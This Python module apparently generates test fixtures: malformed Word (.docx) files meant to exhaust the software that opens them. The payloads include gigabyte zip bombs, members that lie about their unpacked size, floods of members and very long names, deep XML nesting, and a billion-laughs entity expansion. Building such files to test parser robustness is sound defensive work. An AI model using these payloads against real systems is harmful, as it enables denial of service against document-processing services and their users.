"""Word files made to exhaust whoever opens them."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path
from zipfile import ZIP_BZIP2, ZipFile

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/word/document.xml" ContentType="{WORD}"/></Types>'
)
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)
DOCUMENT = "word/document.xml"
STYLES = RELATIONS.replace('/officeDocument"', '/styles"').replace(DOCUMENT, "styles.xml")
GIGABYTE = 1_000_000_000


@dataclass(frozen=True, slots=True)
class Member:
    """A member of a zip file, as its directory tells it."""

    name: str
    packed: bytes
    """Raw deflate data (RFC 1951)."""
    size: int
    """What it says it unpacks to."""
    checksum: int = 0
    """CRC-32 of what it unpacks to."""


def member(name: str, content: bytes) -> Member:
    """Return an honest member."""
    packer = zlib.compressobj(wbits=-15)
    return Member(name, packer.compress(content) + packer.flush(), len(content), zlib.crc32(content))


def zeros(name: str, size: int) -> Member:
    """Return a member that unpacks to a gigabyte of zeros and says that it has so many."""
    packer = zlib.compressobj(wbits=-15)
    piece = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    return Member(name, piece * (GIGABYTE // 1_000_000) + packer.flush(), size)


def write(path: Path, members: Iterable[Member]) -> Path:
    """Write a zip file (APPNOTE.TXT 4.3) whose directory says what the members say."""
    directory, count = b"", 0
    with path.open("wb") as stream:
        for one in members:
            name = one.name.encode()
            facts = struct.pack("<4H3I2H", 0, 8, 0, 33, one.checksum, len(one.packed), one.size, len(name), 0)
            entry = struct.pack("<IH", 0x02014B50, 20) + struct.pack("<H", 20) + facts
            directory += entry + struct.pack("<3H2I", 0, 0, 0, 0, stream.tell()) + name
            stream.write(struct.pack("<IH", 0x04034B50, 20) + facts + name + one.packed)
            count += 1
        start = stream.tell()
        stream.write(directory)
        stream.write(struct.pack("<I4H2IH", 0x06054B50, 0, 0, count & 0xFFFF, count & 0xFFFF, len(directory), start, 0))
    return path


def document(body: str = "<w:p><w:r><w:t>正文。</w:t></w:r></w:p>") -> bytes:
    """Return the document part with that body."""
    namespace = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return f'<w:document xmlns:w="{namespace}"><w:body>{body}</w:body></w:document>'.encode()


def frame(*members: Member, content: bytes | None = None) -> list[Member]:
    """Return the members of a small Word file, and others."""
    own = [member("[Content_Types].xml", TYPES.encode()), member("_rels/.rels", RELATIONS.encode())]
    return [*own, *([member(DOCUMENT, content)] if content is not None else []), *members]


def bombs(folder: Path) -> dict[str, Path]:
    """Write one of each kind, by name."""
    declared = b'<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">' + b"".join(
        b'<!ENTITY %c "%s">' % (98 + at, b"&%c;" % (97 + at) * 10) for at in range(12)
    )
    found = {
        "gigabyte": frame(zeros(DOCUMENT, GIGABYTE)),
        "picture": frame(zeros("word/media/image1.png", GIGABYTE), content=document()),
        "liar": frame(zeros(DOCUMENT, 1_000)),
        "liar beside": frame(
            zeros("word/styles.xml", 1_000),
            member("word/_rels/document.xml.rels", STYLES.encode()),
            content=document(),
        ),
        "members": frame(*(Member(f"word/{at}.xml", b"\x03\x00", 0) for at in range(30_000)), content=document()),
        "directory": frame(*(Member("x" * 60_000, b"\x03\x00", 0) for _ in range(100)), content=document()),
        "markup": frame(content=document("<w:p/>" * 4_500_000)),
        "deep": frame(content=document("<w:sdt>" * 100_000 + "</w:sdt>" * 100_000)),
        "entities": frame(content=declared + b"]>" + document("<w:p w:rsidR='&m;'/>")),
    }
    paths = {name: write(folder / f"{name}.docx", members) for name, members in found.items()}
    with ZipFile(folder / "other method.docx", "w", ZIP_BZIP2) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("_rels/.rels", RELATIONS)
        archive.writestr(DOCUMENT, document())
    return paths | {"other method": folder / "other method.docx"}
